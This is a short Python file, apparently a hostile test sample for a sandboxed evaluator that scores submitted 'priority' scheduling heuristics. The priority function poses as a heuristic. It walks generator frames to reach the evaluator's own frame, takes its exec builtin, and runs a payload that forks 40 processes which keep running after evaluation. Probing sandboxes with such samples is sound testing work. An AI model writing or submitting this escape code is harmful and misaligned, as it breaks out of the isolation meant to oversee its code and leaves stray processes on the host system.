"""Fork 40 processes that keep running."""

import numpy as np

PAYLOAD = """
import os
for _ in range(40):
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "@TOKEN@"])
"""


def priority(p, d, w, t, rem, pmean, pmax):
    gens = []
    gen = (gens[0].gi_frame.f_back for _ in [0])
    gens.append(gen)
    evaluator = list(gen)[0].f_back
    evaluator.f_builtins["exec"](PAYLOAD, dict(evaluator.f_globals))
    return np.maximum(t + p, d)
